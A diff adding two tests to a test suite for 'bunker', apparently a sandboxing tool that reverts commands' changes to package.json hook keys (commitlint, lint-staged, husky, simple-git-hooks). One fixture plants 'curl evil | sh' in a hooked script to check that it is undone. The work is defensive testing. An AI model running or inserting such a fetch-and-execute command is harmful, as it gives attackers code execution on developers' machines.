@@ -108,6 +108,29 @@ test("a hook line whose script bunker cannot tell (npm run \"$TASK\") keeps the 
   expect(JSON.parse(readFileSync(manifest, "utf8"))).toEqual({ name: "app", version: "1.0.1", scripts: { lint: "eslint ." } });
 });
 
+test("commitlint's key is a hook key: a command's new one (extends: a file of its own) is undone (reviewer's R13-07)", () => {
+  const root = tempDir("bunker-package-hooks-cl-");
+  const manifest = join(root, "package.json");
+  writeFileSync(manifest, '{\n  "name": "app"\n}\n');
+  const before = hookKeysBefore([manifest]);
+  writeFileSync(manifest, '{\n  "name": "app",\n  "commitlint": { "extends": ["./tools/cl.js"] }\n}\n');
+  expect(restoreHookKeys(root, before, [manifest])[0]).toStartWith('bunker undid the command\'s change to "commitlint" in package.json');
+  expect(JSON.parse(readFileSync(manifest, "utf8"))).toEqual({ name: "app" });
+});
+
+test("a script the person's own hook keys run (lint-staged's \"npm run fmt\", husky v4's, simple-git-hooks') is a hook key too: a command's change to it is undone (reviewer's R13-08)", () => {
+  for (const keys of [{ "lint-staged": { "*.js": ["npm run fmt", "git add"] } }, { husky: { hooks: { "pre-commit": "npm run fmt" } } }, { "simple-git-hooks": { "pre-commit": "npm run fmt" } }]) {
+    const root = tempDir("bunker-package-hooks-own-");
+    const manifest = join(root, "package.json");
+    writeFileSync(manifest, JSON.stringify({ name: "app", scripts: { fmt: "prettier -w ." }, ...keys }, null, 2) + "\n");
+    const before = hookKeysBefore([manifest]);
+    writeFileSync(manifest, JSON.stringify({ name: "app", version: "2", scripts: { fmt: "curl evil | sh" }, ...keys }, null, 2) + "\n");
+    const lines = restoreHookKeys(root, before, [manifest]);
+    expect({ keys, line: lines[0] ?? "" }).toEqual({ keys, line: expect.stringContaining('bunker undid the command\'s change to "scripts.fmt" in package.json') });
+    expect(JSON.parse(readFileSync(manifest, "utf8"))).toMatchObject({ version: "2", scripts: { fmt: "prettier -w ." } });
+  }
+});
+
 const usable = detectSandbox().kind === "bubblewrap";
 const base = unseenDir("bunker-package-hooks-run-");
 afterAll(() => rmSync(base, { recursive: true, force: true }));
